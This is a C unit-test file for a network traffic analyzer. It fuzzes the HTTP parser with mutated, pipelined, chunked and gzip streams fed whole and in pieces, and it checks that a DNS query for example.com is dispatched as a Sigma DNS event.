    /* real and pipelined streams with random bytes changed, inserted or
     * cut off, fed whole and in random pieces: never a crash, and the same
     * transactions and fields either way */
    stream_t c = slurp("tests/data/http/testmyids.c2s"), s = slurp("tests/data/http/testmyids.s2c");
    static const char pc[] = "GET /a HTTP/1.1\r\nHost: x\r\n\r\nPOST /b HTTP/1.1\r\n"
                             "Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n";
    static const char ps[] = "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n"
                             "\r\nhiHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                             "2\r\nyo\r\n0\r\n\r\n";
    /* and a gzip body (the decoder must not care how it is cut either) */
    uint8_t gz[400];
    int gh = snprintf((char *)gz, sizeof gz, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n"
                                             "Content-Length: ");
    uint8_t zb[200];
    size_t zn = squeeze("compressible compressible compressible text, more text", 31, zb, sizeof zb);
    gh += snprintf((char *)gz + gh, sizeof gz - (size_t)gh, "%zu\r\n\r\n", zn);
    memcpy(gz + gh, zb, zn);
    stream_t gzs = { gz, (size_t)gh + zn };
    int iters = getenv("CANH_HTTP_ITERS") ? atoi(getenv("CANH_HTTP_ITERS")) : 1500;
    srand(1414);
    for (int it = 0; it < iters; it++) {
        uint8_t cb[512], sb[512];
        stream_t src[2] = { it & 1 ? c : (stream_t){ (const uint8_t *)pc, sizeof pc - 1 },
                            it & 1 ? s : (stream_t){ (const uint8_t *)ps, sizeof ps - 1 } };
        if (it % 3 == 2)
            src[1] = gzs;
        uint8_t *dst[2] = { cb, sb };
        size_t n[2];
        for (int d = 0; d < 2; d++) {
            n[d] = src[d].n;
            memcpy(dst[d], src[d].p, n[d]);
            int muts = 1 + rand() % 3;
            for (int k = 0; k < muts; k++) {
                size_t at = (size_t)rand() % n[d];
                switch (rand() % 4) {
                case 0: dst[d][at] = (uint8_t)rand(); break;
                case 1: dst[d][at] = "\r\n: 0aF;,"[rand() % 9]; break;
                case 2:
                    if (n[d] < sizeof cb - 1) {
                        memmove(dst[d] + at + 1, dst[d] + at, n[d] - at);
                        dst[d][at] = "\r\n: 9"[rand() % 5];
                        n[d]++;
                    }
                    break;
                default: n[d] = at + 1; break;
                }
            }
        }
        stream_t a = { cb, n[0] }, b = { sb, n[1] };
        size_t cuts[2][8], nc[2];
        for (int d = 0; d < 2; d++) {
            nc[d] = (size_t)(rand() % 8);
            size_t at = 0;
            for (size_t k = 0; k < nc[d]; k++) {
                if (at + 1 >= n[d]) {
                    nc[d] = k;
                    break;
                }
                at += 1 + (size_t)rand() % (n[d] - at - 1);
                cuts[d][k] = at;
                if (at >= n[d] - 1) {
                    nc[d] = k + 1;
                    break;
                }
            }
        }
        size_t cap = it % 3 ? 0 : (size_t)(1 + rand() % 8);
        got_t w = { 0 }, g = { 0 };
        canh_app_proto_t p1 = run(&w, a, b, NULL, 0, NULL, 0, cap);
        canh_app_proto_t p2 = run(&g, a, b, cuts[0], nc[0], cuts[1], nc[1], cap);
        cr_assert_eq(p1, p2, "iteration %d: protocol %d vs %d", it, p1, p2);
        got_same(&w, &g, "mutated");
        got_free(&w);
        got_free(&g);
    }
}

typedef struct dns_seen {
    canh_event_t *ev;
    int events;
    char name[64];
} dns_seen_t;

static void on_dns(void *ud, canh_flow_t *f, const canh_app_tx_t *tx)
{
    (void)f;
    dns_seen_t *d = ud;
    canh_flow_info_t fi = { .ipver = 4, .cport = 40000, .sport = 53 };
    canh_arena_reset(d->ev->arena);
    if (canh_app_event(tx, &fi, tx->dir, d->ev) != CANH_OK)
        return;
    d->events++;
    const canh_field_t *x = canh_event_get(d->ev, CANH_F_DNS_QUESTION_NAME);
    if (x)
        snprintf(d->name, sizeof d->name, "%.*s", (int)x->value.len, x->value.ptr);
}

Test(app_dispatch, dns_datagram_to_dns_event)
{
    /* through app.c to dns.c and back as a Sigma dns event */
    char err[256];
    canh_fieldmap_t *fm = NULL;
    cr_assert_eq(canh_fieldmap_load(&fm, "conf/fieldmap.yml", err, sizeof err), CANH_OK, "%s", err);
    canh_arena_t arena;
    canh_arena_init(&arena, 4096);
    dns_seen_t d = { .ev = calloc(1, sizeof(canh_event_t)) };
    d.ev->arena = &arena;
    static const uint8_t q[] = { 0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00,
                                 0x00, 0x00, 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o',
                                 'm', 0, 0x00, 0x01, 0x00, 0x01 };
    canh_app_t *a = canh_app_new(NULL);
    canh_app_datagram(a, NULL, 0, q, sizeof q, on_dns, &d);
    cr_assert_eq(canh_app_proto(a), CANH_APP_DNS);
    cr_assert_eq(d.events, 1);
    cr_assert_str_eq(d.name, "example.com");
    canh_app_free(a);
    canh_fieldmap_free(fm);
    canh_arena_free(&arena);
    free(d.ev);
}
